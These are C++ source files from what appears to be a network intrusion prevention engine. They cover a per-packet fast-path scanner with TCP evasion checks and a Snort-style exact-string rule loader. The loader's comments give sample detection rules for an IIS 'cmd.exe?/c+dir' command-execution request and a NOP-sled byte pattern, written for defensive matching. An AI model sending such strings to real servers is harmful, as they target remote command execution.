  /// fast-path scan is stateless per packet (the point of the paper), and
  /// FastFlowState holds no automaton state, so no flow pinning is needed
  /// here. Same piece-length validation as the constructor.
  void swap_ruleset(RuleSetHandle rules);
  std::uint64_t ruleset_version() const { return rules_->version(); }
  const RuleSetHandle& ruleset() const { return rules_; }

  /// Classify one packet. Never alerts by itself (TCP alerts come from the
  /// slow path after diversion; UDP piece hits divert the datagram so the
  /// slow path can run the full-signature match).
  FastDecision process(const net::PacketView& pv, std::uint64_t now_usec);

  /// Batched classification: out[i] ends up exactly what
  /// process(pvs[i], now_usec[i]) would return, called in order — but
  /// flow-record prefetch, checksum verification and the piece scan are
  /// hoisted ahead of the per-packet state machine, and candidate windows
  /// from the whole batch walk the flat DFA in lockstep
  /// (FlatDfa::contains_any_batch). Speculative work for packets later
  /// found diverted is discarded, never counted. Stats parity with the
  /// sequential path is exact with prefilter_adaptive=false; with the
  /// adaptive governor the prefilter_* split (pass/hit/bypassed) may lag
  /// sequential by up to one chunk around a mode flip — pin the governor
  /// off when exact telemetry parity matters. Verdicts never differ.
  void process_batch(const net::PacketView* pvs, const std::uint64_t* now_usec,
                     std::size_t n, FastDecision* out);

  /// Pin a flow to the slow path from outside the per-packet loop (the
  /// engine calls this when IP defragmentation reveals which flow has been
  /// fragmenting). Returns the takeover info the slow path needs; the
  /// per-direction bases reflect what the fast path has forwarded so far.
  FastDecision::Takeover force_divert(const flow::FlowKey& key,
                                      std::uint64_t now_usec);

  /// Timing-wheel housekeeping: expires idle flows (idle timeout) and
  /// closed flows (FIN/RST linger). O(due flows), not O(table).
  void expire(std::uint64_t now_usec) { table_.expire_due(now_usec); }

  const FastPathStats& stats() const { return stats_; }
  const FastPathConfig& config() const { return cfg_; }
  const PieceSet& pieces() const { return rules_->pieces(); }
  std::size_t flows() const { return table_.size(); }

  /// Per-flow state footprint (table only — the automaton is shared).
  std::size_t flow_state_bytes() const { return table_.memory_bytes(); }
  std::size_t memory_bytes() const {
    return flow_state_bytes() + rules_->pieces().memory_bytes();
  }

 private:
  /// Work hoisted out of the per-packet state machine by process_batch.
  /// Fields start "unknown" (-1); process_one computes inline whatever was
  /// not precomputed, and stats are charged only where a value is consumed
  /// — which is what keeps batch and per-packet stats identical.
  struct Prescan {
    std::int8_t checksum = -1;   // -1 unknown, 0 bad, 1 ok
    std::int8_t hit = -1;        // -1 unknown, else piece-scan verdict
    std::uint8_t pre_pass = 0;   // prefilter cleared the payload
    std::uint8_t pre_used = 0;   // prefilter produced candidate windows
    std::uint8_t pre_bypass = 0; // governor sent the payload straight to DFA
    std::uint32_t exact_bytes = 0;
  };
  static constexpr std::size_t kBatchChunk = 32;
  /// Governor epoch: staged payloads sampled before each keep/bypass
  /// decision, and payloads scanned unstaged before the next probe.
  static constexpr std::uint32_t kGovProbe = 64;
  static constexpr std::uint32_t kGovBypass = 4096;

  FastDecision divert(FastFlowState& st, const flow::FlowRef& ref,
                      DivertReason reason);
  FastDecision process_one(const net::PacketView& pv, std::uint64_t now_usec,
                           const Prescan* pre);
  void process_chunk(const net::PacketView* pvs, const std::uint64_t* now_usec,
                     std::size_t n, FastDecision* out);
  /// Piece-scan one payload (prefilter staging when enabled), consuming a
  /// precomputed verdict when `pre` carries one. Charges scan stats.
  bool scan_payload(ByteView payload, const Prescan* pre);
  Prescan compute_scan(ByteView payload) const;

  /// Governor read side: should the next payload be staged through the
  /// prefilter? (Callers have already checked use_prefilter + kernels.)
  bool staged_wanted() const {
    return !cfg_.prefilter_adaptive || gov_bypass_left_ == 0;
  }
  /// Governor write side, fed at consumption time with each staged
  /// payload's size and how many of its bytes the prefilter failed to
  /// clear. Flips to bypass when an epoch leaves > 1/8 of bytes uncleared.
  void gov_note_staged(std::size_t payload_bytes, std::uint32_t exact_bytes) {
    if (!cfg_.prefilter_adaptive) return;
    gov_bytes_ += payload_bytes;
    gov_exact_ += exact_bytes;
    if (--gov_probe_left_ == 0) {
      if (gov_exact_ * 8 > gov_bytes_) gov_bypass_left_ = kGovBypass;
      gov_probe_left_ = kGovProbe;
      gov_bytes_ = 0;
      gov_exact_ = 0;
    }
  }

  FastPathConfig cfg_;
  FastPathStats stats_;
  // Prefilter governor (see FastPathConfig::prefilter_adaptive). Decisions
  // are read at staging time and fed at consumption time, so the batch
  // path may lag the sequential path by up to one chunk around a mode
  // flip; verdicts are unaffected.
  std::uint32_t gov_probe_left_ = kGovProbe;
  std::uint32_t gov_bypass_left_ = 0;
  std::uint64_t gov_bytes_ = 0;
  std::uint64_t gov_exact_ = 0;
  /// The piece database the per-packet scan runs against (never null,
  /// always has_pieces()). Swapped wholesale at packet boundaries.
  RuleSetHandle rules_;
  flow::FlowTable<FastFlowState> table_;
  // Scratch for prefilter windows and batch gather/scatter (single-threaded
  // per lane; reused to keep the hot path allocation-free).
  mutable std::vector<match::PrefilterWindow> windows_;
  std::vector<ByteView> batch_wins_;
  std::vector<std::uint32_t> batch_owner_;
  std::vector<std::uint8_t> batch_hit_;
};

}  // namespace sdt::core
