#include "core/rules.hpp"

#include <cctype>
#include <fstream>
#include <sstream>

#include "util/error.hpp"

namespace sdt::core {

namespace {

int hex_digit(char c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

/// One `key:value;` or bare `key;` option inside the parenthesized block.
struct Option {
  std::string key;
  std::string value;  // quotes stripped for quoted values
};

/// Split the option block respecting quotes and \-escapes.
std::vector<Option> split_options(std::string_view block) {
  std::vector<Option> out;
  std::size_t i = 0;
  while (i < block.size()) {
    while (i < block.size() &&
           std::isspace(static_cast<unsigned char>(block[i]))) {
      ++i;
    }
    if (i >= block.size()) break;

    Option opt;
    // key up to ':' or ';'
    const std::size_t key_start = i;
    while (i < block.size() && block[i] != ':' && block[i] != ';') ++i;
    opt.key = std::string(block.substr(key_start, i - key_start));
    while (!opt.key.empty() && std::isspace(static_cast<unsigned char>(
                                   opt.key.back()))) {
      opt.key.pop_back();
    }

    if (i < block.size() && block[i] == ':') {
      ++i;
      while (i < block.size() &&
             std::isspace(static_cast<unsigned char>(block[i]))) {
        ++i;
      }
      if (i < block.size() && block[i] == '"') {
        ++i;
        std::string v;
        bool closed = false;
        while (i < block.size()) {
          const char c = block[i++];
          if (c == '\\' && i < block.size()) {
            v.push_back('\\');
            v.push_back(block[i++]);
          } else if (c == '"') {
            closed = true;
            break;
          } else {
            v.push_back(c);
          }
        }
        if (!closed) throw ParseError("rules: unterminated quoted value");
        opt.value = std::move(v);
        while (i < block.size() && block[i] != ';') ++i;
      } else {
        const std::size_t v_start = i;
        while (i < block.size() && block[i] != ';') ++i;
        opt.value = std::string(block.substr(v_start, i - v_start));
        while (!opt.value.empty() &&
               std::isspace(static_cast<unsigned char>(opt.value.back()))) {
          opt.value.pop_back();
        }
      }
    }
    if (i < block.size() && block[i] == ';') ++i;
    if (!opt.key.empty()) out.push_back(std::move(opt));
  }
  return out;
}

}  // namespace

const char* to_string(RuleSeverity s) {
  switch (s) {
    case RuleSeverity::note:
      return "note";
    case RuleSeverity::skipped:
      return "skipped";
    case RuleSeverity::fatal:
      return "fatal";
  }
  return "unknown";
}

Bytes decode_content(std::string_view pattern) {
  Bytes out;
  bool in_hex = false;
  int pending = -1;
  for (std::size_t i = 0; i < pattern.size(); ++i) {
    const char c = pattern[i];
    if (in_hex) {
      if (c == '|') {
        if (pending >= 0) throw ParseError("content: odd hex digit count");
        in_hex = false;
      } else if (std::isspace(static_cast<unsigned char>(c))) {
        continue;
      } else {
        const int d = hex_digit(c);
        if (d < 0) {
          throw ParseError(std::string("content: bad hex char '") + c + "'");
        }
        if (pending < 0) {
          pending = d;
        } else {
          out.push_back(static_cast<std::uint8_t>((pending << 4) | d));
          pending = -1;
        }
      }
      continue;
    }
    if (c == '|') {
      in_hex = true;
      pending = -1;
    } else if (c == '\\') {
      if (i + 1 >= pattern.size()) {
        throw ParseError("content: dangling backslash");
      }
      out.push_back(static_cast<std::uint8_t>(pattern[++i]));
    } else {
      out.push_back(static_cast<std::uint8_t>(c));
    }
  }
  if (in_hex) throw ParseError("content: unterminated |hex| section");
  if (out.empty()) throw ParseError("content: empty pattern");
  return out;
}

RuleParseResult parse_rules(std::string_view text) {
  RuleParseResult result;

  std::size_t line_no = 0;
  std::size_t pos = 0;
  while (pos < text.size()) {
    // Extract one logical line (honoring trailing-backslash continuations).
    std::string line;
    std::size_t this_line = line_no + 1;
    while (pos < text.size()) {
      ++line_no;
      const std::size_t eol = text.find('\n', pos);
      std::string_view raw =
          text.substr(pos, eol == std::string_view::npos ? std::string_view::npos
                                                         : eol - pos);
      pos = eol == std::string_view::npos ? text.size() : eol + 1;
      if (!raw.empty() && raw.back() == '\r') raw.remove_suffix(1);
      if (!raw.empty() && raw.back() == '\\') {
        line.append(raw.substr(0, raw.size() - 1));
        continue;  // continuation
      }
      line.append(raw);
      break;
    }

    // Trim + skip blanks/comments.
    std::size_t b = 0;
    while (b < line.size() && std::isspace(static_cast<unsigned char>(line[b]))) {
      ++b;
    }
    if (b == line.size() || line[b] == '#') continue;
    const std::string_view lv = std::string_view(line).substr(b);

    if (lv.substr(0, 6) != "alert ") {
      result.diagnostics.push_back(
          {this_line, "unsupported action (only 'alert' rules)"});
      continue;
    }

    const std::size_t open = lv.find('(');
    const std::size_t close = lv.rfind(')');
    if (open == std::string_view::npos || close == std::string_view::npos ||
        close < open) {
      result.diagnostics.push_back({this_line, "missing option block"});
      continue;
    }

    std::vector<Option> opts;
    try {
      opts = split_options(lv.substr(open + 1, close - open - 1));
    } catch (const ParseError& e) {
      result.diagnostics.push_back({this_line, e.what()});
      continue;
    }

    std::string msg;
    std::string sid;
    std::vector<std::string> contents;
    for (const Option& o : opts) {
      if (o.key == "msg") {
        msg = o.value;
      } else if (o.key == "sid") {
        sid = o.value;
      } else if (o.key == "content") {
        contents.push_back(o.value);
      }
      // other options tolerated and ignored (out of exact-match scope)
    }

    if (contents.empty()) {
      result.diagnostics.push_back({this_line, "no content field"});
      continue;
    }
    if (contents.size() > 1) {
      result.diagnostics.push_back(
          {this_line, "multiple content fields (beyond exact-match scope)"});
      continue;
    }

    Bytes bytes;
    try {
      bytes = decode_content(contents[0]);
    } catch (const ParseError& e) {
      result.diagnostics.push_back({this_line, e.what()});
      continue;
    }

    std::string name = msg;
    if (name.empty()) {
      name = sid.empty() ? "rule:" + std::to_string(this_line) : "sid:" + sid;
    }
    result.signatures.add(std::move(name), ByteView(bytes));
  }

  return result;
}

RuleParseResult load_rules_file(const std::string& path) {
  std::ifstream f(path);
  if (!f) throw IoError("rules: cannot open '" + path + "'");
  std::ostringstream ss;
  ss << f.rdbuf();
  return parse_rules(ss.str());
}

}  // namespace sdt::core
