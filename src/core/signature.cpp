#include "core/signature.hpp"

#include "util/error.hpp"

namespace sdt::core {

std::uint32_t SignatureSet::add(std::string name, ByteView bytes) {
  if (bytes.empty()) {
    throw InvalidArgument("SignatureSet: empty signature '" + name + "'");
  }
  Signature s;
  s.id = static_cast<std::uint32_t>(sigs_.size());
  s.name = std::move(name);
  s.bytes.assign(bytes.begin(), bytes.end());
  max_len_ = std::max(max_len_, s.bytes.size());
  min_len_ = std::min(min_len_, s.bytes.size());
  sigs_.push_back(std::move(s));
  return sigs_.back().id;
}

std::uint32_t SignatureSet::add(std::string name, std::string_view ascii) {
  return add(std::move(name), view_of(ascii));
}

}  // namespace sdt::core
