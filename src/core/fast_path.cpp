#include "core/fast_path.hpp"

#include <algorithm>

#include "net/checksum.hpp"
#include "net/seq.hpp"
#include "util/error.hpp"

namespace sdt::core {

namespace {

RuleSetHandle compile_for_fast_path(const SignatureSet& sigs,
                                    const FastPathConfig& cfg) {
  CompileOptions opts;
  opts.piece_len = cfg.piece_len;
  opts.layout = cfg.layout;
  opts.piece_phase_sample = cfg.piece_phase_sample;
  return compile_ruleset(sigs, opts);
}

void check_compatible(const RuleSetHandle& rules, const FastPathConfig& cfg) {
  if (!rules) throw InvalidArgument("FastPath: null rule-set handle");
  if (!rules->has_pieces()) {
    throw InvalidArgument(
        "FastPath: rule set compiled without a piece database "
        "(CompileOptions::piece_len was 0)");
  }
  if (rules->piece_len() != cfg.piece_len) {
    throw InvalidArgument(
        "FastPath: rule set compiled with piece_len " +
        std::to_string(rules->piece_len()) + " but config expects " +
        std::to_string(cfg.piece_len) +
        " (the 2p-1 anomaly threshold and the tiling must agree)");
  }
}

}  // namespace

FastPath::FastPath(const SignatureSet& sigs, FastPathConfig cfg)
    : FastPath(compile_for_fast_path(sigs, cfg), cfg) {}

FastPath::FastPath(RuleSetHandle rules, FastPathConfig cfg)
    : cfg_(std::move(cfg)), rules_(std::move(rules)),
      table_({.max_flows = cfg_.max_flows,
              .idle_timeout_usec = cfg_.flow_idle_timeout_usec,
              .linger_usec = cfg_.fin_linger_usec}) {
  check_compatible(rules_, cfg_);
}

void FastPath::swap_ruleset(RuleSetHandle rules) {
  check_compatible(rules, cfg_);
  rules_ = std::move(rules);
}

namespace {

/// Leaked-prefix bound per direction at takeover time. A clean packet
/// overhanging a signature's start can pass at most p-1 of its bytes
/// (more would contain the first piece); one small segment forwarded
/// under the FIN exemption can pass up to 2p-2 more. The direction's
/// small-segment history tells which bound applies.
std::uint16_t leak_bound(const FastFlowState& st, std::size_t d,
                         std::size_t p) {
  const auto dbit = static_cast<std::uint8_t>(1u << d);
  const bool small_leaked =
      (st.pending_small & dbit) != 0 || st.small_count[d] != 0;
  return static_cast<std::uint16_t>(small_leaked ? 3 * p - 3 : p - 1);
}

FastDecision::Takeover make_takeover(const flow::FlowKey& key,
                                     const FastFlowState& st, std::size_t p) {
  FastDecision::Takeover t;
  t.key = key;
  for (std::size_t i = 0; i < 2; ++i) {
    if (st.have_seq & (1u << i)) t.base_seq[i] = st.next_seq[i];
    t.prefix_leak[i] = leak_bound(st, i, p);
  }
  return t;
}

}  // namespace

FastDecision FastPath::divert(FastFlowState& st, const flow::FlowRef& ref,
                              DivertReason reason) {
  FastDecision d;
  d.action = Action::divert;
  d.reason = reason;
  if (st.diverted == 0) {
    st.diverted = 1;
    ++stats_.flows_diverted;
    d.takeover = make_takeover(ref.key, st, cfg_.piece_len);
  }
  return d;
}

FastDecision::Takeover FastPath::force_divert(const flow::FlowKey& key,
                                              std::uint64_t now_usec) {
  FastFlowState& st = table_.get_or_create(key, now_usec);
  const FastDecision::Takeover t = make_takeover(key, st, cfg_.piece_len);
  if (st.diverted == 0) {
    st.diverted = 1;
    ++stats_.flows_diverted;
  }
  return t;
}

FastPath::Prescan FastPath::compute_scan(ByteView payload) const {
  Prescan o;
  const PieceSet& ps = rules_->pieces();
  const bool can_stage =
      cfg_.use_prefilter && ps.has_kernels() && ps.prefilter().usable();
  if (can_stage && !staged_wanted()) {
    o.pre_bypass = 1;
    o.hit = ps.flat().contains_any(payload) ? 1 : 0;
    return o;
  }
  if (can_stage) {
    windows_.clear();
    ps.prefilter().windows(payload, windows_);
    if (windows_.empty()) {
      o.pre_pass = 1;
      o.hit = 0;
      return o;
    }
    o.pre_used = 1;
    o.hit = 0;
    for (const match::PrefilterWindow& w : windows_) {
      o.exact_bytes += w.end - w.begin;
    }
    for (const match::PrefilterWindow& w : windows_) {
      if (ps.flat().contains_any(payload.subspan(w.begin, w.end - w.begin))) {
        o.hit = 1;
        break;
      }
    }
    return o;
  }
  const bool hit = ps.has_kernels() ? ps.flat().contains_any(payload)
                                    : ps.matcher().contains_any(payload);
  o.hit = hit ? 1 : 0;
  return o;
}

bool FastPath::scan_payload(ByteView payload, const Prescan* pre) {
  stats_.bytes_scanned += payload.size();
  Prescan local;
  if (pre == nullptr || pre->hit < 0) {
    local = compute_scan(payload);
    pre = &local;
  }
  if (pre->pre_pass != 0) {
    ++stats_.prefilter_pass;
    gov_note_staged(payload.size(), 0);
  }
  if (pre->pre_used != 0) {
    ++stats_.prefilter_hit;
    stats_.prefilter_exact_bytes += pre->exact_bytes;
    gov_note_staged(payload.size(), pre->exact_bytes);
  }
  if (pre->pre_bypass != 0) {
    ++stats_.prefilter_bypassed;
    if (gov_bypass_left_ > 0) --gov_bypass_left_;
  }
  return pre->hit == 1;
}

FastDecision FastPath::process(const net::PacketView& pv,
                               std::uint64_t now_usec) {
  return process_one(pv, now_usec, nullptr);
}

void FastPath::process_batch(const net::PacketView* pvs,
                             const std::uint64_t* now_usec, std::size_t n,
                             FastDecision* out) {
  for (std::size_t base = 0; base < n; base += kBatchChunk) {
    const std::size_t m = std::min(kBatchChunk, n - base);
    process_chunk(pvs + base, now_usec + base, m, out + base);
  }
}

void FastPath::process_chunk(const net::PacketView* pvs,
                             const std::uint64_t* now_usec, std::size_t n,
                             FastDecision* out) {
  Prescan pre[kBatchChunk];

  // Pass 1: pull the flow-table bucket lines for every TCP packet toward
  // the cache while the checksum/prefilter passes below give them time to
  // land.
  for (std::size_t i = 0; i < n; ++i) {
    const net::PacketView& pv = pvs[i];
    if (!pv.is_fragment() && pv.ok() && pv.has_tcp) {
      table_.prefetch(flow::make_flow_ref(pv).key);
    }
  }

  // Pass 2: hoist checksum verification and prefilter staging; gather the
  // candidate windows of every scannable payload into one batch. A packet
  // whose flow is already diverted is skipped (its scan would be
  // discarded unconsumed). Nothing here touches stats or flow state —
  // process_one charges everything at the point of consumption.
  batch_wins_.clear();
  batch_owner_.clear();
  const PieceSet& ps = rules_->pieces();
  const bool can_stage = cfg_.use_prefilter && ps.has_kernels() &&
                         ps.prefilter().usable();
  const bool staged = can_stage && staged_wanted();
  for (std::size_t i = 0; i < n; ++i) {
    const net::PacketView& pv = pvs[i];
    if (pv.is_fragment() || !pv.ok()) continue;
    if (cfg_.min_ttl != 0 && pv.ip_ttl() < cfg_.min_ttl) continue;
    if (cfg_.verify_checksums) {
      const bool ok = net::transport_checksum(pv) == 0;
      pre[i].checksum = ok ? 1 : 0;
      if (!ok) continue;
    }
    const ByteView payload = pv.l4_payload;
    if (pv.has_tcp) {
      const FastFlowState* st = table_.find(flow::make_flow_ref(pv).key);
      if (st != nullptr && st->diverted != 0) continue;
      if (payload.empty()) continue;
    } else if (!pv.has_udp) {
      continue;
    }
    if (staged) {
      windows_.clear();
      ps.prefilter().windows(payload, windows_);
      if (windows_.empty()) {
        pre[i].pre_pass = 1;
        pre[i].hit = 0;
        continue;
      }
      pre[i].pre_used = 1;
      pre[i].hit = 0;
      for (const match::PrefilterWindow& w : windows_) {
        pre[i].exact_bytes += w.end - w.begin;
        batch_wins_.push_back(payload.subspan(w.begin, w.end - w.begin));
        batch_owner_.push_back(static_cast<std::uint32_t>(i));
      }
    } else {
      pre[i].hit = 0;
      pre[i].pre_bypass = can_stage ? 1 : 0;
      batch_wins_.push_back(payload);
      batch_owner_.push_back(static_cast<std::uint32_t>(i));
    }
  }

  // Pass 3: one lockstep walk of the flat DFA over every candidate window
  // in the chunk.
  if (!batch_wins_.empty()) {
    batch_hit_.assign(batch_wins_.size(), 0);
    if (ps.has_kernels()) {
      ps.flat().contains_any_batch(batch_wins_.data(), batch_wins_.size(),
                                   batch_hit_.data());
    } else {
      for (std::size_t j = 0; j < batch_wins_.size(); ++j) {
        batch_hit_[j] = ps.matcher().contains_any(batch_wins_[j]) ? 1 : 0;
      }
    }
    for (std::size_t j = 0; j < batch_wins_.size(); ++j) {
      if (batch_hit_[j] != 0) pre[batch_owner_[j]].hit = 1;
    }
  }

  // Pass 4: the per-packet state machine, in arrival order, consuming the
  // hoisted results.
  for (std::size_t i = 0; i < n; ++i) {
    out[i] = process_one(pvs[i], now_usec[i], &pre[i]);
    ++stats_.batch_packets;
  }
}

FastDecision FastPath::process_one(const net::PacketView& pv,
                                   std::uint64_t now_usec,
                                   const Prescan* pre) {
  ++stats_.packets;
  stats_.bytes += pv.frame.size();

  // Fragments bypass L4 parsing entirely: off to the slow path, which
  // defragments and (via the engine) pins the revealed flow to it.
  if (pv.is_fragment()) {
    ++stats_.fragment_diverts;
    return FastDecision{Action::divert, DivertReason::ip_fragment, {}};
  }
  if (!pv.ok()) {
    ++stats_.bad_packets;
    return FastDecision{Action::divert, DivertReason::bad_packet, {}};
  }

  // Insertion-attack filters: a packet the victim will never accept must
  // not touch IPS state. Forward it untouched (it is inert on the wire).
  if (cfg_.min_ttl != 0 && pv.ip_ttl() < cfg_.min_ttl) {
    ++stats_.low_ttl_ignored;
    return FastDecision{Action::forward, DivertReason::none, {}};
  }
  if (cfg_.verify_checksums) {
    bool checksum_ok;
    if (pre != nullptr && pre->checksum >= 0) {
      checksum_ok = pre->checksum == 1;
    } else {
      checksum_ok = net::transport_checksum(pv) == 0;
    }
    if (!checksum_ok) {
      ++stats_.bad_checksum_ignored;
      return FastDecision{Action::forward, DivertReason::none, {}};
    }
  }

  if (pv.has_udp) {
    ++stats_.udp_datagrams;
    if (scan_payload(pv.l4_payload, pre)) {
      ++stats_.piece_hits;
      // Datagram-level diversion: the slow path runs the full match.
      return FastDecision{Action::divert, DivertReason::piece_match, {}};
    }
    return FastDecision{Action::forward, DivertReason::none, {}};
  }
  if (!pv.has_tcp) {
    return FastDecision{Action::forward, DivertReason::none, {}};
  }

  ++stats_.tcp_segments;
  const flow::FlowRef ref = flow::make_flow_ref(pv);
  bool created = false;
  FastFlowState& st = table_.get_or_create(ref.key, now_usec, &created);
  if (created) ++stats_.flows_seen;

  if (st.diverted) {
    ++stats_.diverted_packets;
    return FastDecision{Action::divert, DivertReason::already_diverted, {}};
  }

  const auto d = static_cast<std::size_t>(ref.dir);
  const std::uint8_t dbit = static_cast<std::uint8_t>(1u << d);
  const ByteView payload = pv.l4_payload;
  const net::TcpView& tcp = pv.tcp;

  // (1) Stateless piece scan. A whole piece inside one packet is the
  // attacker's forced move when segments are large and in order.
  if (!payload.empty()) {
    if (scan_payload(payload, pre)) {
      ++stats_.piece_hits;
      return divert(st, ref, DivertReason::piece_match);
    }
  }

  // (2) Urgent-mode data: whether the receiving application sees the
  // urgent byte in-band is stack-dependent — an ambiguity an evader can
  // ride. Urgent segments are rare in benign traffic; divert.
  if (tcp.urg() && tcp.urgent_pointer() != 0 && !payload.empty()) {
    ++stats_.urgent_diverts;
    return divert(st, ref, DivertReason::urgent_data);
  }

  // (3) Payload after this direction's FIN is a protocol violation the
  // receiving stack would discard; an evader shipping bytes there is
  // hiding them from us, so divert. (A bare FIN retransmission is fine.)
  if ((st.fin_seen & dbit) && !payload.empty()) {
    ++stats_.ooo_anomalies;
    return divert(st, ref, DivertReason::out_of_order);
  }
  if (tcp.fin()) {
    st.fin_seen |= dbit;
    // Both directions closed: collapse this record's lifetime to the FIN
    // linger (conntrack teardown). The linger still covers the final ACK
    // and absorbs benign FIN retransmits; post-linger data starts a fresh
    // flow, exactly as the receiving stack would treat it.
    if (st.fin_seen == 0x3) table_.mark_closing(ref.key, now_usec);
  }

  // (4) A pending small segment is absolved by a bare *in-sequence* FIN
  // (it really was the stream's last data), confirmed as an anomaly by any
  // further data in that direction. A bare FIN declaring a later sequence
  // number must NOT absolve: data is still outstanding, so the 2p-2-byte
  // leak stays live and the takeover bound below must account for it (the
  // sequence check diverts such a FIN; found by sdt_fuzz, schedule
  // seed=1/i=16193).
  if ((st.pending_small & dbit) && !cfg_.testonly_break_small_segment_check) {
    if (tcp.fin() && payload.empty() &&
        ((st.have_seq & dbit) == 0 || tcp.seq() == st.next_seq[d])) {
      st.pending_small = static_cast<std::uint8_t>(st.pending_small & ~dbit);
    } else if (!payload.empty()) {
      st.pending_small = static_cast<std::uint8_t>(st.pending_small & ~dbit);
      ++stats_.small_segment_anomalies;
      if (++st.small_count[d] >= cfg_.small_segment_limit) {
        return divert(st, ref, DivertReason::small_segment);
      }
    }
  }

  // (5) Small-segment check (below the 2p-1 threshold). Must precede
  // sequence tracking so a diverting packet is not yet folded into
  // next_seq — the slow path has to accept this very packet.
  if (!payload.empty() && payload.size() < cfg_.effective_min_payload() &&
      !cfg_.testonly_break_small_segment_check) {
    if (tcp.fin() && cfg_.fin_exempts_last_small) {
      // Final data segment of this direction: legitimately small.
    } else if (cfg_.fin_exempts_last_small) {
      st.pending_small = static_cast<std::uint8_t>(st.pending_small | dbit);
    } else {
      ++stats_.small_segment_anomalies;
      if (++st.small_count[d] >= cfg_.small_segment_limit) {
        return divert(st, ref, DivertReason::small_segment);
      }
    }
  }

  // (6) Sequence tracking: one 32-bit expected-next per direction.
  const std::uint32_t seg_len =
      static_cast<std::uint32_t>(payload.size()) + (tcp.syn() ? 1u : 0u) +
      (tcp.fin() ? 1u : 0u);
  if ((st.have_seq & dbit) == 0) {
    if (seg_len != 0) {
      st.next_seq[d] = tcp.seq() + seg_len;
      st.have_seq |= dbit;
    }
  } else if (seg_len != 0 || !payload.empty()) {
    if (net::seq_cmp(tcp.seq(), st.next_seq[d]) != 0) {
      ++stats_.ooo_anomalies;
      // Divert *before* resyncing: the takeover base must be the first
      // byte the fast path has not forwarded, so the slow path accepts
      // both this packet and any later hole-filling segments.
      if (++st.ooo_count[d] >= cfg_.ooo_limit) {
        return divert(st, ref, DivertReason::out_of_order);
      }
      // Tolerated anomaly: resync so one reordering event costs one
      // anomaly, not a cascade. seq_cmp, not built-in >, so a resync
      // straddling the 2^32 wrap moves the expectation forward.
      if (net::seq_cmp(tcp.seq() + seg_len, st.next_seq[d]) > 0) {
        st.next_seq[d] = tcp.seq() + seg_len;
      }
    } else {
      st.next_seq[d] = tcp.seq() + seg_len;
    }
  }

  // (7) State reclamation on a *sequence-valid* RST only. An out-of-window
  // RST would be ignored by the receiver; erasing on it would let an
  // attacker reset our sequence baseline while the real connection lives.
  if (tcp.rst() && (st.have_seq & dbit) &&
      net::seq_cmp(tcp.seq(), st.next_seq[d]) == 0) {
    // Sequence-valid RST: collapse to the linger instead of erasing
    // outright, so straggler packets of the dead connection (the peer's
    // own RST, a crossed FIN) do not re-materialize a fresh record.
    table_.mark_closing(ref.key, now_usec);
  }

  return FastDecision{Action::forward, DivertReason::none, {}};
}

}  // namespace sdt::core
