// Snort-style rule file loading (exact-string subset).
//
// The paper's scope is "the simplest form of signature, an exact string
// match"; this loader accepts the corresponding subset of the classic rule
// grammar so real-world rule bases can drive the engines:
//
//   alert tcp any any -> any 80 (msg:"IIS cmd.exe";
//       content:"cmd.exe?/c+dir"; sid:1001;)
//   alert tcp any any -> any any (content:"|90 90 90 90|init"; sid:1002;)
//
// Supported: `alert` rules; one `content` option per rule, with Snort's
// |hex| escapes and \-escaped characters; `msg` (becomes the signature
// name, else "sid:<n>" or "rule:<line>"); `sid`. Everything else in the
// option block is tolerated and ignored (the engine has no port/direction
// predicates — DESIGN.md documents this as out of scope). Rules this
// subset cannot express faithfully (multiple content fields, pcre,
// non-alert actions) are *skipped and reported*, never silently mangled.
//
// The parser never stops at a malformed line: every per-line issue becomes
// a RuleDiagnostic (line number, severity, reason) so a rule-set compile
// can report the whole file's problems at once (examples/config_doctor
// prints them; the control plane returns them to a reload caller).
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "core/signature.hpp"

namespace sdt::core {

/// How bad one rule-file finding is.
enum class RuleSeverity : std::uint8_t {
  note,     // informational (e.g. a tolerated-but-ignored option)
  skipped,  // this rule was dropped; the rest of the file still loads
  fatal,    // the whole load failed (unreadable file, no usable rules)
};

const char* to_string(RuleSeverity s);

/// One finding about one (logical) line of a rule file.
struct RuleDiagnostic {
  std::size_t line = 0;  // 1-based line in the input; 0 = whole-file
  std::string reason;
  RuleSeverity severity = RuleSeverity::skipped;
};

struct RuleParseResult {
  SignatureSet signatures;
  /// Per-line findings, in file order. A diagnostic never aborts the
  /// parse; callers decide whether `skipped` rules are acceptable.
  std::vector<RuleDiagnostic> diagnostics;

  std::size_t parsed() const { return signatures.size(); }
  std::size_t count(RuleSeverity s) const {
    std::size_t n = 0;
    for (const auto& d : diagnostics) n += d.severity == s ? 1 : 0;
    return n;
  }
};

/// Parse rules from a string. Never throws on rule content: every
/// malformed or out-of-scope rule lands in `diagnostics` and parsing
/// continues with the next line.
RuleParseResult parse_rules(std::string_view text);

/// Load and parse a rule file. Throws IoError if unreadable.
RuleParseResult load_rules_file(const std::string& path);

/// Decode a Snort content pattern: |hex| sections and backslash escapes.
/// Throws ParseError on malformed input.
Bytes decode_content(std::string_view pattern);

}  // namespace sdt::core
