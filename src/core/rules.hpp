// Snort-style rule file loading (exact-string subset).
//
// The paper's scope is "the simplest form of signature, an exact string
// match"; this loader accepts the corresponding subset of the classic rule
// grammar so real-world rule bases can drive the engines:
//
//   alert tcp any any -> any 80 (msg:"IIS cmd.exe"; \
//       content:"cmd.exe?/c+dir"; sid:1001;)
//   alert tcp any any -> any any (content:"|90 90 90 90|init"; sid:1002;)
//
// Supported: `alert` rules; one `content` option per rule, with Snort's
// |hex| escapes and \-escaped characters; `msg` (becomes the signature
// name, else "sid:<n>" or "rule:<line>"); `sid`. Everything else in the
// option block is tolerated and ignored (the engine has no port/direction
// predicates — DESIGN.md documents this as out of scope). Rules this
// subset cannot express faithfully (multiple content fields, pcre,
// non-alert actions) are *skipped and reported*, never silently mangled.
#pragma once

#include <string>
#include <string_view>
#include <vector>

#include "core/signature.hpp"

namespace sdt::core {

struct RuleParseResult {
  SignatureSet signatures;

  struct Skipped {
    std::size_t line = 0;      // 1-based line in the input
    std::string reason;
  };
  std::vector<Skipped> skipped;

  std::size_t parsed() const { return signatures.size(); }
};

/// Parse rules from a string. Throws ParseError only on structurally
/// unrecoverable input (unterminated quote/parenthesis); per-rule issues
/// land in `skipped`.
RuleParseResult parse_rules(std::string_view text);

/// Load and parse a rule file. Throws IoError if unreadable.
RuleParseResult load_rules_file(const std::string& path);

/// Decode a Snort content pattern: |hex| sections and backslash escapes.
